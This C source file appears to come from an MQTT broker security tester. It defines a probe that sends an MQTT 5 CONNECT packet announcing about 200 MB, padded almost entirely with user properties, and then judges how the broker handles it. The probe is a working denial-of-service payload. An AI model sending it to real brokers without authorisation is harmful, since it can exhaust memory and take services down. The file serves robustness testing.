/* SPDX-License-Identifier: Apache-2.0 */
#include "tools/attack_bulk.h"

void attack_fat_connect(const struct attack_env *env, struct attack_finding *out)
{
    /* CONNECT of MQTT 5: 209,715,200 bytes, nearly all of them user properties. */
    static const uint8_t head[] = { 0x10, 0x80, 0x80, 0x80, 0x64, 0,    4,    'M',  'Q', 'T',
                                    'T',  5,    2,    0,    60,   0xEC, 0xFF, 0xFF, 0x63 };
    static const uint8_t property[] = { 0x26, 0, 1, 'a', 0, 1, 'b' };
    const struct attack_bulk bulk = { .head = { head, sizeof(head) },
                                      .pattern = { property, sizeof(property) },
                                      .what = "a CONNECT that announces 200 MB" };
    struct attack_link link;
    const struct attack_hello hello = { .who = env->first.is_usable ? &env->first : NULL };

    if (attack_link_dial(&link, env, &hello))
        attack_bulk_judge(&link, &bulk, out);
    else
        attack_check_judge(out, ATTACK_UNCLEAR, "no connection: %s", link.said);
    attack_link_close(&link);
}
